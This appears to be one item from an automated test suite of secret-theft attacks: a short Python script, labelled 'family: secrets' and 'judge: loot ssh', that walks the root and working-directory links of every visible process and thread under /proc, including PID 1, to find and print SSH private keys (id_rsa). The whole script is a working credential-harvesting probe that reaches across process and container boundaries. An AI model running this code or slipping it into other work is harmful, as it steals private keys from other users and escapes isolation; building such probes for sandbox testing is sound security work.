"""Looks for the key behind the roots and folders of every process that can be seen, threads included.

family: secrets
arguments: {home}
judge: loot ssh
trace: /root, /task, id_rsa, /
"""

import contextlib
import glob
import sys

for place in glob.glob("/proc/[0-9]*/task/*/root") + glob.glob("/proc/[0-9]*/task/*/cwd") + ["/proc/1/root"]:
    for way in (place + sys.argv[1], place + "/.."):
        with contextlib.suppress(OSError), open(f"{way}/.ssh/id_rsa") as file:
            print(file.read())
